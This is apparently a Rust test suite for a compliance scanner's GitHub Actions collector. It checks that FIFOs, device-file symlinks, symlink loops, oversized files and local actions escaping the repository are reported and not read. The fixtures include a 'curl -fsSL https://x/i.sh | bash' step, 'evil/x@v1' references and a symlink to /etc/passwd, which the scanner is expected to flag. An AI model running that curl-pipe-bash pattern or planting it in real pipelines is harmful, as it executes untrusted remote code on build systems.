//! The local provider against hostile repositories (FIFOs, device files, symbolic links out of
//! the tree, symlink loops) and local actions referenced from anywhere in the repository.
//!
//! Every collection runs in a thread with a 10-second hang guard: a provider that blocks on a
//! FIFO or reads `/dev/zero` forever fails the test instead of hanging the suite.

#![cfg(unix)]

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::mpsc;
use std::time::Duration;

use soc2::config::Policy;
use soc2::engine::{Evaluation, Outcome, evaluate};
use soc2::facts::{FileKind, Repository};
use soc2::providers::local_gha;
use soc2::rules::load_embedded;

const OK_WORKFLOW: &str =
    "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ok\n";

/// Collects `root` in a thread; fails if that takes more than 10 s (a hang guard, not a
/// benchmark).
fn collect_guarded(root: &Path) -> Repository {
    let (tx, rx) = mpsc::channel();
    let root = root.to_path_buf();
    std::thread::spawn(move || {
        let _ = tx.send(local_gha::collect(&root));
    });
    rx.recv_timeout(Duration::from_secs(10))
        .expect("collection finished within 10 s (a hostile file must not hang the scan)")
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().expect("has a parent")).expect("mkdir");
    std::fs::write(path, text).expect("write");
}

/// A repository with one valid workflow, `.github/workflows/ok.yml`.
fn repo_with_ok_workflow() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), ".github/workflows/ok.yml", OK_WORKFLOW);
    dir
}

fn paths(repo: &Repository) -> Vec<&str> {
    repo.workflows.iter().map(|w| w.path.as_str()).collect()
}

fn diagnostic<'a>(repo: &'a Repository, path: &str) -> &'a soc2::facts::FileDiagnostic {
    let found: Vec<_> = repo
        .diagnostics
        .iter()
        .filter(|d| &*d.loc.path == path)
        .collect();
    assert_eq!(
        found.len(),
        1,
        "exactly one diagnostic for {path}: {:#?}",
        repo.diagnostics
    );
    found[0]
}

fn evaluations(repo: &Repository) -> Vec<Evaluation> {
    let rules = load_embedded().expect("built-in rules load");
    evaluate(&rules, std::slice::from_ref(repo), &Policy::default())
}

#[test]
fn a_fifo_workflow_is_a_diagnostic_not_a_hang() {
    let dir = repo_with_ok_workflow();
    let fifo = dir.path().join(".github/workflows/fifo.yml");
    let status = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo runs");
    assert!(status.success(), "mkfifo created {}", fifo.display());

    let repo = collect_guarded(dir.path());
    assert_eq!(paths(&repo), [".github/workflows/ok.yml"]);
    let d = diagnostic(&repo, ".github/workflows/fifo.yml");
    assert_eq!(d.kind, FileKind::Workflow);
    assert!(
        d.message.contains("FIFO") && d.message.contains("not a regular file"),
        "{}",
        d.message
    );
    // The engine turns it into unknown outcomes for the file; the other workflow is judged.
    let evals = evaluations(&repo);
    assert!(
        evals
            .iter()
            .any(|e| e.outcome == Outcome::Unknown && e.subject == ".github/workflows/fifo.yml")
    );
    assert!(evals.iter().any(|e| e.outcome != Outcome::Unknown
        && e.outcome != Outcome::NotApplicable
        && e.resource.starts_with(".github/workflows/ok.yml")));
}

#[test]
fn a_symlink_to_dev_zero_is_a_diagnostic_not_an_endless_read() {
    let dir = repo_with_ok_workflow();
    symlink("/dev/zero", dir.path().join(".github/workflows/zero.yml")).expect("symlink");

    let repo = collect_guarded(dir.path());
    assert_eq!(paths(&repo), [".github/workflows/ok.yml"]);
    let d = diagnostic(&repo, ".github/workflows/zero.yml");
    assert!(
        d.message.contains("outside the repository") && d.message.contains("/dev/zero"),
        "{}",
        d.message
    );
}

#[test]
fn a_symlink_to_a_fifo_inside_the_tree_is_not_a_regular_file() {
    let dir = repo_with_ok_workflow();
    let status = std::process::Command::new("mkfifo")
        .arg(dir.path().join("pipe"))
        .status()
        .expect("mkfifo runs");
    assert!(status.success());
    symlink(
        "../../pipe",
        dir.path().join(".github/workflows/linked.yml"),
    )
    .expect("symlink");

    let repo = collect_guarded(dir.path());
    assert_eq!(paths(&repo), [".github/workflows/ok.yml"]);
    let d = diagnostic(&repo, ".github/workflows/linked.yml");
    assert!(d.message.contains("not a regular file"), "{}", d.message);
}

#[test]
fn a_symlink_out_of_the_tree_is_not_read() {
    let dir = repo_with_ok_workflow();
    // A valid workflow outside the repository: were it read, it would be parsed.
    let outside = tempfile::tempdir().expect("tempdir");
    write(outside.path(), "stolen.yml", OK_WORKFLOW);
    symlink(
        outside.path().join("stolen.yml"),
        dir.path().join(".github/workflows/stolen.yml"),
    )
    .expect("symlink");
    symlink(
        "/etc/passwd",
        dir.path().join(".github/workflows/passwd.yml"),
    )
    .expect("symlink");
    // A symlink that stays inside the repository is followed.
    write(dir.path(), "shared/inside.yml", OK_WORKFLOW);
    symlink(
        "../../shared/inside.yml",
        dir.path().join(".github/workflows/inside.yml"),
    )
    .expect("symlink");

    let repo = collect_guarded(dir.path());
    assert_eq!(
        paths(&repo),
        [".github/workflows/inside.yml", ".github/workflows/ok.yml"]
    );
    for name in ["stolen.yml", "passwd.yml"] {
        let d = diagnostic(&repo, &format!(".github/workflows/{name}"));
        assert!(
            d.message.contains("outside the repository") && d.message.contains("not read"),
            "{}",
            d.message
        );
    }
    let d = diagnostic(&repo, ".github/workflows/passwd.yml");
    assert!(d.message.contains("/etc/passwd"), "{}", d.message);
}

#[test]
fn a_symlinked_dependabot_file_out_of_the_tree_is_not_read() {
    let dir = repo_with_ok_workflow();
    let outside = tempfile::tempdir().expect("tempdir");
    write(
        outside.path(),
        "dependabot.yml",
        "version: 2\nupdates:\n  - package-ecosystem: github-actions\n    directory: /\n    schedule:\n      interval: weekly\n",
    );
    symlink(
        outside.path().join("dependabot.yml"),
        dir.path().join(".github/dependabot.yml"),
    )
    .expect("symlink");

    let repo = collect_guarded(dir.path());
    assert!(repo.dependabot.is_none(), "the outside file was not read");
    let d = diagnostic(&repo, ".github/dependabot.yml");
    assert!(
        d.message.contains("outside the repository"),
        "{}",
        d.message
    );
}

#[test]
fn an_oversized_workflow_is_reported() {
    let dir = repo_with_ok_workflow();
    let big = format!(
        "{OK_WORKFLOW}#{}\n",
        "x".repeat(local_gha::MAX_FILE_BYTES as usize)
    );
    write(dir.path(), ".github/workflows/big.yml", &big);

    let repo = collect_guarded(dir.path());
    assert_eq!(paths(&repo), [".github/workflows/ok.yml"]);
    let d = diagnostic(&repo, ".github/workflows/big.yml");
    assert!(d.message.contains("byte limit"), "{}", d.message);
}

#[test]
fn directory_walks_neither_loop_nor_leave_the_tree() {
    let dir = repo_with_ok_workflow();
    let root = dir.path();
    let outside = tempfile::tempdir().expect("tempdir");
    write(
        outside.path(),
        "action.yml",
        "runs:\n  using: composite\n  steps:\n    - uses: evil/x@v1\n",
    );
    write(outside.path(), "Gemfile", "source 'https://rubygems.org'\n");
    // Loops: a directory linking to its ancestors.
    symlink("..", root.join(".github/loop")).expect("symlink");
    symlink("../..", root.join(".github/workflows/up")).expect("symlink");
    symlink(".", root.join("self")).expect("symlink");
    // Directories out of the tree, under `.github` and at the root.
    symlink(outside.path(), root.join(".github/outside")).expect("symlink");
    symlink(outside.path(), root.join("vendored")).expect("symlink");
    // An action file under `.github` that links out of the tree is reported, not read.
    std::fs::create_dir_all(root.join(".github/actions/linked")).expect("mkdir");
    symlink(
        outside.path().join("action.yml"),
        root.join(".github/actions/linked/action.yml"),
    )
    .expect("symlink");

    let repo = collect_guarded(root);
    assert_eq!(paths(&repo), [".github/workflows/ok.yml"]);
    let d = diagnostic(&repo, ".github/actions/linked/action.yml");
    assert_eq!(d.kind, FileKind::Action);
    assert!(
        d.message.contains("outside the repository"),
        "{}",
        d.message
    );
    assert_eq!(repo.diagnostics.len(), 1, "{:#?}", repo.diagnostics);
    assert_eq!(
        repo.ecosystems,
        ["github-actions"],
        "no manifest out of the tree"
    );
}

// --- Local actions anywhere in the repository ---------------------------------------------

const DEPLOY_ACTION: &str = "name: deploy
runs:
  using: composite
  steps:
    - uses: evil/x@v1
    - run: curl -fsSL https://x/i.sh | bash
      shell: bash
    - uses: ./tools/nested
";

const NESTED_ACTION: &str = "name: nested
runs:
  using: composite
  steps:
    - uses: ./tools/deploy
    - uses: other/y@main
";

fn deploy_repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        ".github/workflows/release.yml",
        "on: push
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@8e8c483db84b4bee98b60c0593521ed34d9990e8
      - uses: ./tools/deploy
      - uses: ./tools/deploy/
",
    );
    write(dir.path(), "tools/deploy/action.yml", DEPLOY_ACTION);
    write(dir.path(), "tools/nested/action.yaml", NESTED_ACTION);
    dir
}

#[test]
fn local_actions_anywhere_are_followed_transitively() {
    let dir = deploy_repo();
    let repo = collect_guarded(dir.path());
    assert!(repo.diagnostics.is_empty(), "{:#?}", repo.diagnostics);
    assert_eq!(
        paths(&repo),
        [
            ".github/workflows/release.yml",
            "tools/deploy/action.yml",
            "tools/nested/action.yaml",
        ],
        "each local action is read once, cycles included"
    );
    let deploy = &repo.workflows[1];
    assert_eq!(deploy.kind, "action");
    assert_eq!(deploy.using.as_deref(), Some("composite"));

    let evals = evaluations(&repo);
    let failing = |rule: &str, path: &str| {
        evals.iter().any(|e| {
            e.rule == rule
                && e.outcome == Outcome::Fail
                && e.location.as_ref().is_some_and(|l| &*l.path == path)
        })
    };
    assert!(
        failing("CC9-001", "tools/deploy/action.yml"),
        "evil/x@v1 is judged"
    );
    assert!(
        failing("CC9-009", "tools/deploy/action.yml"),
        "curl | bash is judged"
    );
    assert!(
        failing("CC9-001", "tools/nested/action.yaml"),
        "other/y@main is judged"
    );
}

#[test]
fn a_missing_local_action_is_a_located_diagnostic() {
    let dir = tempfile::tempdir().expect("tempdir");
    let workflow = "on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@8e8c483db84b4bee98b60c0593521ed34d9990e8
      - uses: ./tools/missing
";
    write(dir.path(), ".github/workflows/deploy.yml", workflow);
    let repo = collect_guarded(dir.path());
    assert_eq!(paths(&repo), [".github/workflows/deploy.yml"]);
    let d = diagnostic(&repo, ".github/workflows/deploy.yml");
    assert_eq!(
        d.message,
        "local action `./tools/missing` not found: no action.yml or action.yaml"
    );
    assert_eq!((d.loc.line, d.loc.column), (7, 15));
    assert_eq!(
        &workflow[d.loc.offset..d.loc.offset + d.loc.length],
        "./tools/missing"
    );
    // Pipeline rules become unknown for it rather than not applicable.
    let evals = evaluations(&repo);
    let cc9 = evals
        .iter()
        .find(|e| e.rule == "CC9-001" && e.outcome == Outcome::Unknown)
        .expect("CC9-001 is unknown");
    assert!(cc9.message.contains("./tools/missing"), "{}", cc9.message);
    assert_eq!(cc9.location.as_ref().map(|l| l.line), Some(7));
}

#[test]
fn local_actions_escaping_the_root_are_diagnostics() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("repo");
    // A sibling of the repository that `./../x` would reach.
    write(
        dir.path(),
        "x/action.yml",
        "runs:\n  using: composite\n  steps:\n    - uses: evil/x@v1\n",
    );
    // A directory inside the tree that links out of it.
    std::fs::create_dir_all(root.join("tools")).expect("mkdir");
    symlink(dir.path().join("x"), root.join("tools/linked")).expect("symlink");
    write(
        &root,
        ".github/workflows/ci.yml",
        "on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: ./../x
      - uses: ./tools/../../x
      - uses: ./tools/linked
",
    );
    let repo = collect_guarded(&root);
    assert_eq!(paths(&repo), [".github/workflows/ci.yml"]);
    let messages: Vec<_> = repo
        .diagnostics
        .iter()
        .map(|d| format!("{}:{}: {}", d.loc.path, d.loc.line, d.message))
        .collect();
    assert_eq!(messages.len(), 3, "{messages:#?}");
    assert_eq!(
        messages[0],
        ".github/workflows/ci.yml:6: local action `./../x` is outside the repository; it is not read"
    );
    assert_eq!(
        messages[1],
        ".github/workflows/ci.yml:7: local action `./tools/../../x` is outside the repository; it is not read"
    );
    assert!(
        messages[2].starts_with("tools/linked/action.yml:1: ")
            && messages[2].contains("outside the repository"),
        "{}",
        messages[2]
    );
}

/// Kept for the corpus and CLI tests: the demo fixture is unchanged by local-action following.
#[test]
fn fixtures_have_no_missing_local_actions() {
    for fixture in ["demo-repo", "clean-repo", "suppress-repo"] {
        let root: PathBuf = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures")
            .join(fixture);
        let repo = collect_guarded(&root);
        assert!(
            !repo
                .diagnostics
                .iter()
                .any(|d| d.message.starts_with("local action")),
            "{fixture}: {:#?}",
            repo.diagnostics
        );
    }
}
